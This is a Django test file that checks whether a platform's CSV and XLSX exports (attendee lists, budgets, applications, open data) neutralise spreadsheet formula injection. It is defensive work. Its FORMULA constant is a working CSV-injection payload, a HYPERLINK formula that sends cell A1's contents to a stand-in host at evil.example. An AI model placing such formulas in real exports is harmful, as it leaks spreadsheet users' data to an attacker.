"""Issue 17, finding 5: every CSV and XLSX the platform writes is formula-safe.

A name typed by anyone (an event registration, a proposal's title, a
candidate's answers) must reach a spreadsheet as text, never as a formula."""

import csv
import html
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from eig.accounts.models import Role
from eig.core.exports import csv_stream, safe_cell
from tests.accounts.factories import make_user
from tests.applications.factories import ApplicationFactory
from tests.factories_cohort_life import RegistrationFactory, WebinarFactory
from tests.proposals.factories import ChallengeCallFactory, ProposalFactory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
EIG = Path(__file__).resolve().parents[2] / "eig"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Camille", "Camille"),
        ("", ""),
        ("-3", "-3"),  # a number is not a formula
        ("+12.5", "+12.5"),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_stream_neutralises_every_cell():
    text = "".join(csv_stream(["a", "b"], [[FORMULA, "-1"], ["ok", "@x"]]))
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'" + FORMULA, "-1"], ["ok", "'@x"]]


def test_nothing_but_the_safe_writer_writes_csv_or_xlsx():
    """Walk the code: CSV and XLSX are written through eig/core/exports.py only."""
    writers = re.compile(
        r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|openpyxl|"
        r"from csv import|from xlsxwriter import"
    )
    offenders = [
        str(path.relative_to(EIG))
        for path in EIG.rglob("*.py")
        if path != EIG / "core" / "exports.py"
        and "migrations" not in path.parts
        and writers.search(path.read_text())
    ]
    assert offenders == []


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_the_attendees_csv_neutralises_a_formula_name(client):
    event = WebinarFactory()
    RegistrationFactory(event=event, name=FORMULA)
    client.force_login(make_user(Role.STAFF))

    rows = _csv(client.get(f"/gestion/evenements/{event.pk}/inscrits.csv"))

    assert rows[1][rows[0].index("nom")] == "'" + FORMULA


@pytest.mark.django_db
def test_the_budget_csv_neutralises_a_formula_title(client):
    call = ChallengeCallFactory(closed=True)
    ProposalFactory(call=call, complete=True, title=FORMULA)
    client.force_login(make_user(Role.STAFF))

    rows = _csv(client.get(reverse("proposals:staff_call_csv", kwargs={"pk": call.pk})))

    assert rows[1][0] == "'" + FORMULA


@pytest.mark.django_db
def test_the_applications_csv_and_xlsx_neutralise_a_formula_name(client):
    ApplicationFactory(submitted=True, last_name=FORMULA)
    client.force_login(make_user(Role.STAFF))

    rows = _csv(client.get(reverse("applications:staff_export_csv")))
    response = client.get(reverse("applications:staff_export_xlsx"))
    workbook = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    texts = [
        html.unescape(text)
        for name in workbook.namelist()
        if name.endswith(".xml")
        for text in re.findall(r"<t[^>]*>(.*?)</t>", workbook.read(name).decode(), re.S)
    ]

    assert "'" + FORMULA in rows[1]
    assert FORMULA not in rows[1]
    assert "'" + FORMULA in texts
    assert FORMULA not in texts


@pytest.mark.django_db
def test_the_open_data_csv_neutralises_a_formula_title(client):
    from tests.opendata.factories import ChallengeFactory

    ChallengeFactory(title=FORMULA)

    rows = _csv(client.get("/donnees/defis.csv"))

    assert rows[1][rows[0].index("title")] == "'" + FORMULA
